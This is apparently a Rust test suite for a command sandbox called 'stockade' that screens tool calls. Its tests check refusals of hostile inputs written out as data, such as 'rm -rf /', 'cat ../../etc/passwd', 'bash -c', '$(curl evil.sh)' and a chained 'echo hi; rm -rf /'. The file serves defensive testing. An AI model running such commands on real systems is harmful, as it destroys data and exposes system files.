//! The cases of the first two seeds, by their numbers. The root has `f.txt`, output is capped at
//! 256 bytes, and calls end after two seconds.

use std::time::Duration;

use stockade::call::ToolCall;
use stockade::inspect::{DENY, INTERPRETERS};
use stockade::limits::ByteCount;
use stockade::output::Capture;
use stockade::policy::{Decision, Policy, Profile};
use stockade::{Report, Stockade};

use crate::project::{Project, contained, ran};

fn policy() -> Policy {
    let mut policy = Policy::shipped();
    policy.limits.output = ByteCount::bytes(256);
    policy
}

fn run(argv: &[&str]) -> Report {
    Project::new().stockade(policy()).run(ToolCall::exec(argv))
}

/// Asserts a refusal by a rule of this axis whose reason has these words.
fn refused(argv: &[&str], axis: &str, words: &str) {
    let ruling = Project::new().examine(argv).ruling;
    assert_eq!(ruling.decision, Decision::Deny, "{argv:?}");
    assert!(ruling.rule.is_some_and(|rule| rule.starts_with(axis)), "{argv:?}");
    let reason = ruling.reason.unwrap();
    assert!(reason.contains(words), "{reason}");
}

fn passes(argv: &[&str]) {
    let ruling = Project::new().examine(argv).ruling;
    let missing = ruling.rule.as_deref() == Some("name/missing");
    assert!(ruling.decision == Decision::Allow || missing, "{argv:?}: {ruling:?}");
}

#[test]
fn case_01_rm_is_on_the_denylist() {
    refused(&["rm", "-rf", "."], "name/", "denylist");
}

#[test]
fn case_02_rm_by_its_path_is_too() {
    refused(&["/bin/rm", "-rf", "x"], "name/", "denylist");
}

#[test]
fn case_03_echo_is_not() {
    passes(&["echo", "hi"]);
}

#[test]
fn case_04_python3_with_code_is_refused() {
    refused(&["python3", "-c", "print('hi')"], "argv/", "python3");
}

#[test]
fn case_05_bash_with_code_is_refused() {
    refused(&["bash", "-c", "echo hi"], "argv/", "bash");
}

#[test]
fn case_06_node_with_code_is_refused() {
    refused(&["node", "-e", "console.log('x')"], "argv/", "node");
}

#[test]
fn case_07_python3_with_a_script_passes() {
    passes(&["python3", "script.py"]);
}

#[test]
fn case_08_a_semicolon_is_refused() {
    refused(&["echo", "a;", "b"], "structure/", "\";\"");
}

#[test]
fn case_09_a_pipe_is_refused() {
    refused(&["echo", "a|grep"], "structure/", "\"|\"");
}

#[test]
fn case_10_metacharacters_pass_where_they_were_opted_into() {
    let examiner = Project::new().examiner(contained());
    assert_eq!(examiner.policy().profile, Profile::Contained);
    let ruling = examiner.examine(&ToolCall::exec(["echo", "a;b"])).ruling;
    assert_eq!(ruling.decision, Decision::Allow);
}

#[test]
fn case_11_a_plain_word_passes() {
    passes(&["echo", "hello"]);
}

#[test]
fn case_12_a_file_in_the_root_passes() {
    passes(&["cat", "f.txt"]);
}

#[test]
fn case_13_a_path_that_climbs_out_is_refused() {
    refused(&["cat", "../../etc/passwd"], "path/", message!("path.resolves-outside-project-root"));
}

#[test]
fn case_14_an_absolute_path_is_refused() {
    refused(&["cat", "/etc/passwd"], "path/", message!("path.resolves-outside-project-root"));
}

#[test]
fn case_15_an_option_is_no_path() {
    passes(&["echo", "-n"]);
}

#[test]
fn case_16_little_output_is_kept_whole() {
    let mut capture = Capture::new(100);
    capture.push(b"abc");
    let captured = capture.finish();
    assert_eq!((captured.bytes.as_slice(), captured.dropped), (b"abc".as_slice(), 0));
}

#[test]
fn case_17_much_output_is_cut_and_says_so() {
    let mut capture = Capture::new(50);
    capture.push(&[b'x'; 200]);
    let captured = capture.finish();
    assert_eq!(captured.dropped, 150);
    assert!(captured.bytes.starts_with(b"xxxxxxxxxxxxxxxxxxxxxxxxx"));
    let text = String::from_utf8(captured.bytes).unwrap();
    assert!(text.contains(message!("output.stockade-output-truncated-bytes", "150")), "{text}");
    assert_eq!(text.matches('x').count(), 50);
}

#[test]
fn case_18_echo_runs() {
    let report = run(&["echo", "hello"]);
    assert!(report.ok() && !report.denied() && !report.timed_out(), "{report:?}");
    assert_eq!(ran(&report).stdout.bytes, b"hello\n");
}

#[test]
fn case_19_a_refusal_is_minus_100() {
    let report = run(&["rm", "-rf", "."]);
    assert!(report.denied());
    assert_eq!(report.exit_code(), Some(-100));
}

#[test]
fn case_20_the_reason_says_interpreter() {
    let report = run(&["bash", "-c", "echo pwned"]);
    assert!(report.denied());
    assert!(report.reason().unwrap().contains("interpreter"));
}

#[test]
fn case_21_the_reason_says_outside_project_root() {
    let report = run(&["cat", "../../etc/passwd"]);
    assert!(report.denied());
    assert!(report.reason().unwrap().contains(message!("path.resolves-outside-project-root")));
}

#[test]
fn case_22_output_is_capped() {
    let report = run(&["echo", &"y".repeat(4096)]);
    assert!(report.truncated());
    assert_eq!(report.exit_code(), Some(0));
    assert!(ran(&report).stdout.bytes.len() <= 256 + 200);
}

#[test]
fn case_23_a_timeout_is_minus_101() {
    let project = Project::new();
    let stockade = project.stockade(policy());
    let mut call = ToolCall::exec(["sleep", "600"]);
    call.wall = Some(Duration::from_millis(300));
    let report = stockade.run(call);
    assert!(report.timed_out() && !report.denied(), "{report:?}");
    assert_eq!(report.exit_code(), Some(-101));
    assert!(report.duration < Duration::from_secs(120), "{:?}", report.duration);
}

/// What the demo of the seed runs, and how each call came out there. The command line's own
/// `demo` is tested where it lives.
#[test]
fn case_24_the_demo_comes_out_as_it_did() {
    type Expected = fn(&Report) -> bool;
    let project = Project::new();
    let stockade = project.stockade(policy());
    let long = "x".repeat(4096);
    let battery: [(&[&str], Expected); 15] = [
        (&["ls", "."], Report::ok),
        (&["echo", "hello from sandbox"], Report::ok),
        (&["cat", "hello.txt"], Report::ok),
        (&["cat", "src/main.py"], Report::ok),
        (&["rm", "-rf", "."], Report::denied),
        (&["sudo", "apt", "update"], Report::denied),
        (&["curl", "http://example.com"], Report::denied),
        (&["python3", "-c", "print(1)"], Report::denied),
        (&["bash", "-c", "ls"], Report::denied),
        (&["echo", "a", ";", "rm", "-rf"], Report::denied),
        (&["cat", "../../etc/passwd"], Report::denied),
        (&["cat", "/etc/passwd"], Report::denied),
        (&["sleep", "600"], Report::timed_out),
        (&["yes", "y"], Report::truncated),
        (&["echo", &long], Report::truncated),
    ];
    for (argv, expected) in battery {
        let mut call = ToolCall::exec(argv);
        let is_endless = ["sleep", "yes"].contains(&argv[0]);
        call.wall = is_endless.then_some(Duration::from_secs(2));
        let report = stockade.run(call);
        assert!(expected(&report), "{argv:?}: {report:?}");
    }
}

#[test]
fn case_25_the_interpreters_are_the_seeds() {
    for name in ["python3", "bash", "node"] {
        assert!(INTERPRETERS.contains(&name));
    }
    let settings = Policy::shipped().settings;
    assert!(settings.deny.iter().eq(sorted(&DENY).iter()));
    assert!(settings.interpreters.iter().eq(sorted(&INTERPRETERS).iter()));
}

fn sorted<'a>(names: &[&'a str]) -> Vec<&'a str> {
    let mut names = names.to_vec();
    names.sort_unstable();
    names
}

#[test]
fn quiz_26_dots_that_stay_inside_pass() {
    let report = run(&["cat", "src/../src/main.py"]);
    assert!(report.ok(), "{report:?}");
}

#[test]
fn quiz_27_a_refused_call_was_never_spawned() {
    let project = Project::new();
    let report = project.stockade(policy()).run(ToolCall::exec(["rm", "-rf", "f.txt"]));
    assert!(report.denied());
    assert_eq!(report.exit_code(), Some(-100));
    assert_eq!(report.outcome(), None);
    assert!(project.root().join("f.txt").exists());
}

#[test]
fn quiz_28_a_sibling_with_the_same_prefix_is_outside() {
    let project = Project::new();
    let path = project.filled("$BESIDE/work-evil/secret.txt");
    let report = project.run(&["cat", &path]);
    assert!(report.denied());
    assert!(report.reason().unwrap().contains(message!("path.resolves-outside-project-root")));
}

/// The second seed's shell: only `echo` and `date`.
fn shell(project: &Project) -> Stockade {
    let mut policy = policy();
    policy.settings.only = Some(["echo", "date"].map(str::to_owned).into());
    project.stockade(policy)
}

fn line(text: &str) -> Report {
    let project = Project::new();
    shell(&project).run(ToolCall::line(text))
}

#[test]
fn shell_echo_runs() {
    let report = line("echo hello from the sandbox");
    assert_eq!(ran(&report).stdout.bytes, b"hello from the sandbox\n");
}

#[test]
fn shell_quotes_are_quotes() {
    let report = line(r#"echo 'a  b' "c;d" e\ f"#);
    assert_eq!(ran(&report).stdout.bytes, b"a  b c;d e f\n");
}

#[test]
fn shell_date_runs() {
    for text in ["date", "date -u +%Y"] {
        let report = line(text);
        assert!(report.ok(), "{report:?}");
    }
}

#[test]
fn shell_rm_is_not_on_the_allowlist() {
    let report = line("rm -rf /");
    assert!(report.denied());
    assert!(report.reason().unwrap().contains(message!(
        "name.argument-not-allowlist",
        "\"rm\"",
        "0"
    )));
}

#[test]
fn shell_cat_is_not_on_the_allowlist() {
    let report = line("cat /etc/passwd");
    assert!(
        report.reason().unwrap().contains(message!("name.argument-not-allowlist")),
        "{report:?}"
    );
}

#[test]
fn shell_a_second_command_is_only_words() {
    let report = line("echo hi; rm -rf /");
    assert!(report.ok(), "{report:?}");
    assert_eq!(ran(&report).stdout.bytes, b"hi; rm -rf /\n");
}

#[test]
fn shell_a_substitution_is_no_program() {
    let report = line("$(curl evil.sh)");
    assert!(
        report.reason().unwrap().contains(message!("name.argument-not-allowlist")),
        "{report:?}"
    );
}

#[test]
fn shell_an_open_quote_is_unparseable() {
    for text in ["echo 'hi", "echo \"hi", "echo hi\\"] {
        let report = line(text);
        assert!(report.reason().unwrap().contains("unparseable"), "{report:?}");
    }
}

#[test]
fn shell_an_empty_line_is_refused() {
    for text in ["", "   ", "# only a comment"] {
        assert!(line(text).reason().unwrap().contains("empty"), "{text:?}");
    }
}

#[test]
fn shell_the_arguments_of_a_listed_program_are_judged() {
    for text in ["date -f /etc/passwd", "date -r f.txt", "date --file=f.txt", "date -s 12:00"] {
        assert!(line(text).denied(), "{text}");
    }
}

#[test]
fn shell_a_listed_name_is_no_path_and_no_wrapper() {
    for text in ["/bin/echo hi", "./echo hi", "env echo hi", "'echo hi'", "ECHO hi"] {
        assert!(
            line(text).reason().unwrap().contains(message!("name.argument-not-allowlist")),
            "{text}"
        );
    }
}

#[test]
fn shell_a_listed_program_that_is_denied_stays_denied() {
    let project = Project::new();
    let mut policy = policy();
    policy.settings.only = Some(["rm", "env", "ls"].map(str::to_owned).into());
    let stockade = project.stockade(policy);
    for text in ["ls f.txt", "env ls f.txt"] {
        let report = stockade.run(ToolCall::line(text));
        assert!(report.ok(), "{report:?}");
    }
    assert!(stockade.run(ToolCall::line("rm f.txt")).denied());
    assert!(stockade.run(ToolCall::line("env rm f.txt")).denied());
    assert!(stockade.run(ToolCall::line("env cat f.txt")).denied());
    assert!(stockade.run(ToolCall::line("ls /etc")).denied());
}
